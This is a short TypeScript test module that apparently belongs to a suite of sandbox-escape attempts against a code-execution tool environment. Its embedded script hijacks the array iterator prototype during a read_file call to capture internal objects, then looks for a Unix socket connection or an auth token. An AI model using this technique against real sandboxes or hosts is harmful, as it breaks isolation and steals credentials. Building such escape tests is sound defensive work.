/** Makes arrays of the bootstrap and iterators call the script. */
import { defineAttempt } from "../_attempt.ts";

export const attempt = defineAttempt({
  script: () =>
    `const found = [];
const iterate = Array.prototype[Symbol.iterator];
Array.prototype[Symbol.iterator] = function () { found.push(this); return iterate.call(this); };
const { read_file } = await import("hermes_tools");
await read_file({ path: "x" });
Array.prototype[Symbol.iterator] = iterate;
return found.flat().find((value) => value instanceof Deno.UnixConn || String(value).includes('"token"'));`,
});
